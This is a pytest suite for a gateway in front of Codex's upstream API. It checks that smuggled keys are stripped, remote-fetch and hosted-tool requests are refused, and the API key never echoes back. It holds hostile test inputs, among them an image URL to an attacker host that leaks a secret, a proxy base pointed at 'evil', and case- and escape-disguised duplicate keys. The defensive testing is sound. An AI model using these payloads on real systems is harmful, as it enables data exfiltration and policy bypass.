"""Attacks on the gate as a process: what reaches the upstream is what Codex would send, and what
comes back has no key."""

import contextlib
import http.client
import json

import pytest
from codex_stand import KEY
from gate_process import BODY, COMPLETED, account, connect, event, gate, post

from codexrun_pod.gate.policy import shape


def raw(text):
    """A body of the plain keys, and a text that JSON has further ones in."""
    return (json.dumps(BODY)[:-1] + "," + text + "}").encode()


# What a reader that does not mind the case takes from it: the last spelling of each key.
FOLDED = raw(
    '"MODEL":"gpt-5.5-pro","Stream":false,"Store":true,"Max_Output_Tokens":1000000,'
    '"Background":true,"Service_Tier":"priority","Previous_Response_Id":"resp_x","\u017ftore":true'
)
DROPPED = {
    "keys in another case": FOLDED,
    "keys with a long s": raw('"\u017ftream":false,"\u017ftore":true'),
    "keys with escapes": raw('"St\\u006fre":true,"\\u017ftore":true'),
    "the router's": raw('"models":["openai/o1-pro"],"route":"fallback","plugins":[{"id":"web"}]'),
    "the proxy's": raw(
        '"fallbacks":["o1-pro"],"api_base":"http://evil/","extra_body":{"model":"o1-pro"},"n":8'
    ),
    "searching by a parameter": raw('"search_parameters":{"mode":"on"}'),
    "kept longer": raw('"prompt_cache_retention":"24h","metadata":{"a":"b"},"user":"x"'),
    "compacted by the provider": raw('"context_management":[{"type":"compaction"}]'),
    "an empty key": raw('"":true,"\\u0000":1,"model ":"x"'),
    "included": raw('"include":["file_search_call.results","web_search_call.action.sources"]'),
}


@pytest.mark.parametrize("attack", DROPPED)
def test_keys_that_codex_does_not_send_do_not_arrive(tmp_path, attack):
    with gate(tmp_path) as (pod, upstream):
        assert post(pod, DROPPED[attack])[0] == 200
        ((_, body),) = upstream.requests
        assert {**body, "include": []} == {**BODY, "include": []}
        assert account(pod)["dropped_keys"] > 0
        pod.gate.terminate()
        pod.gate.wait(20)
        assert pod.message("gate")["droppedKeys"] == account(pod)["dropped_keys"]
        assert b"keys.dropped" in (pod.root / "gate.log").read_bytes()


def content(*parts):
    return {**BODY, "input": [{"role": "user", "content": list(parts)}]}


REFUSED = {
    "an image of the web": content(
        {"type": "input_image", "image_url": "https://attacker.example/leak?d=SECRET"}
    ),
    "a file of the web": content({"type": "input_file", "file_url": "https://attacker.example/x"}),
    "a stored file": content({"type": "input_file", "file_id": "file-abc"}),
    "a stored image": content({"type": "input_image", "file_id": "file-abc"}),
    "a stored item": {**BODY, "input": [{"type": "item_reference", "id": "msg_123"}]},
    "a stored item by its id": {**BODY, "input": [{"id": "msg_123"}]},
    "a sound of the web": content({"type": "input_audio", "audio_url": "http://x/"}),
    "an image of the web in an output": {
        **BODY,
        "input": [
            {
                "type": "function_call_output",
                "call_id": "c",
                "output": [{"type": "input_image", "image_url": "http://x/"}],
            }
        ],
    },
    "another search": {**BODY, "tools": [{"type": "x_search"}]},
    "a search in capitals": {**BODY, "tools": [{"type": "Web_Search"}]},
    "a router's search": {**BODY, "tools": [{"type": "openrouter:web_search"}]},
    "a remote server": {**BODY, "tools": [{"type": "mcp", "server_url": "https://x"}]},
    "a tool that was found": {
        **BODY,
        "input": [{"type": "tool_search_output", "tools": [{"type": "code_interpreter"}]}],
    },
    "tools as an object": {**BODY, "tools": {"0": {"type": "web_search"}}},
    "a choice of a hosted tool": {**BODY, "tool_choice": {"type": "web_search"}},
    "more effort": {**BODY, "reasoning": {"effort": "xhigh"}},
    "more effort on the way": {
        **BODY,
        "input": [{"type": "configuration_update", "reasoning": {"effort": "xhigh"}}],
    },
    "stored": {**BODY, "store": True},
}


@pytest.mark.parametrize("attack", REFUSED)
def test_what_the_provider_would_fetch_or_run_ends_the_run(tmp_path, attack):
    with gate(tmp_path, allowedEfforts=["low", "medium"]) as (pod, upstream):
        status, answer, _ = post(pod, REFUSED[attack])
        assert (status, json.loads(answer)["error"]["code"]) == (400, "guardrail")
        assert account(pod)["stop"]["code"] == "guardrail"
        assert post(pod)[0] == 400, "once stopped, always stopped"
        assert upstream.requests == []


NOT_JSON = {
    "UTF-16": json.dumps(BODY).encode("utf-16"),
    "NaN": raw('"temperature":NaN'),
    "a number without end": raw('"temperature":1e999'),
    "nested without end": raw('"x":' + "[" * 100_000),
    "two documents": json.dumps(BODY).encode() * 2,
}


@pytest.mark.parametrize("attack", NOT_JSON)
def test_what_is_not_json_does_not_arrive(tmp_path, attack):
    with gate(tmp_path) as (pod, upstream):
        assert post(pod, NOT_JSON[attack])[0] == 400
        assert upstream.requests == []
        assert post(pod)[0] == 200, "and the run goes on"


def test_a_store_that_is_not_named_is_none(tmp_path):
    with gate(tmp_path) as (pod, upstream):
        body = {key: value for key, value in BODY.items() if key != "store"}
        assert post(pod, body)[0] == 200
        assert upstream.requests[0][1]["store"] is False
        assert set(upstream.requests[0][1]) <= shape.REQUEST.keys()


ESCAPED = "".join(f"\\u{ord(char):04x}" for char in KEY)
HALVES = (KEY[:7], KEY[7:])
FAILED = {"id": "r", "status": "failed", "error": {"code": "x", "message": f"bad key {KEY}"}}


def stream_of(*chunks, **headers):
    return lambda handler: handler.stream(*chunks, **headers)


def failure(status, body, **headers):
    return lambda handler: handler.reply(status, body, **headers)


def delta(text):
    return event("response.output_text.delta", delta=text)


ECHOES = {
    "a header of the answer": stream_of(COMPLETED, x_codex_echo=f"Bearer {KEY}", openai_x=KEY),
    "a header's name": lambda handler: handler.stream(COMPLETED, **{f"x-codex-{KEY}": "1"}),
    "a header of an error": failure(401, b"{}", x_request_id=KEY, Retry_After=KEY),
    "an error": failure(401, json.dumps({"error": {"message": f"key {KEY}"}}).encode()),
    "an error, escaped": failure(403, f'{{"error": {{"message": "{ESCAPED}"}}}}'.encode()),
    "an error that is no JSON": failure(502, f"<html>Bearer {KEY}</html>".encode()),
    "a stream": stream_of(delta(f"Bearer {KEY}"), COMPLETED),
    "a stream, byte by byte": lambda handler: handler.stream(
        *(bytes([byte]) for byte in delta(KEY)), COMPLETED
    ),
    "a stream, in two halves": stream_of(
        f'data: {{"delta": "{HALVES[0]}'.encode(), f'{HALVES[1]}"}}\n\n'.encode(), COMPLETED
    ),
    "a stream, escaped": stream_of(f'data: {{"delta": "{ESCAPED}"}}\n\n'.encode(), COMPLETED),
    "an error that is called a stream": stream_of(
        json.dumps({"error": {"message": f"bad key {KEY}"}}).encode()
    ),
    "a web page that is called a stream": stream_of(f"<html>bad key {KEY}".encode()),
    "a comment": stream_of(f": {KEY}\n\n".encode(), COMPLETED),
    "an event's name": stream_of(f"event: {KEY}\ndata: {{}}\n\n".encode(), COMPLETED),
    "an id": stream_of(f"id: {KEY}\ndata: {{}}\n\n".encode(), COMPLETED),
    "an event of an error": stream_of(event("error", error={"code": "x", "message": f"key {KEY}"})),
    "an event that the response failed": stream_of(event("response.failed", response=FAILED)),
    "a call of a tool of that name": stream_of(
        event("response.output_item.done", item={"type": f"{KEY}_call"}), COMPLETED
    ),
    "the status line": lambda handler: handler.wfile.write(
        f"HTTP/1.1 200 {KEY}\r\nContent-Type: text/event-stream\r\n\r\n".encode() + COMPLETED
    ),
    "what is not HTTP": lambda handler: handler.wfile.write(
        f"HTTP/1.1 200 OK\r\n{KEY}\r\n\r\n".encode()
    ),
}


@pytest.mark.parametrize("echo", ECHOES)
def test_the_key_does_not_come_back(tmp_path, echo):
    with gate(tmp_path) as (pod, upstream):
        upstream.answer = ECHOES[echo]
        try:
            status, body, headers = post(pod)
        except http.client.IncompleteRead as error:  # cut, for no last event came
            status, body, headers = 200, error.partial, {}
        assert upstream.requests[0][0]["Authorization"] == f"Bearer {KEY}"
        assert status in {200, 400, 502}
        pod.gate.terminate()
        pod.gate.wait(20)
        told = {
            "answer": body.decode(),
            "headers": str(headers),
            "state": json.dumps(account(pod)),
            "message": json.dumps(pod.message("gate")),
            "log": (pod.root / "gate.log").read_text(),
        }
        for where, text in told.items():
            assert KEY not in text, where
            assert ESCAPED not in text, where
            assert HALVES[1] not in text, where


def test_a_large_head_passes_and_a_larger_one_is_refused_in_words(tmp_path):
    """Codex sends one about its workspace."""
    large = {"x-codex-turn-metadata": "m" * 60_000}
    with gate(tmp_path) as (pod, upstream):
        assert post(pod, **large)[0] == 200
        sent, _ = upstream.requests[0]
        assert {name.lower(): text for name, text in sent.items()}.items() >= large.items()
        one = {"x-codex-turn-metadata": "m" * 70_000}
        together = {f"X-{n}": "m" * 60_000 for n in range(5)}
        for head in (one, together):
            status, body, _ = post(pod, **head)
            assert status == 400
            assert (
                "may be at most 64 KiB long, and all headers together 256 KiB"
                in json.loads(body)["error"]["message"]
            )
        with connect(pod) as endless:
            endless.sendall(b"POST /v1/responses HTTP/1.1\r\n")
            with contextlib.suppress(ConnectionError):
                for n in range(100):
                    endless.sendall(b"X-%d: %s\r\n" % (n, b"m" * 60_000))
            with contextlib.suppress(ConnectionError):
                assert endless.recv(65536).startswith(b"HTTP/1.1 400")
        assert post(pod)[0] == 200
        assert len(upstream.requests) == 2
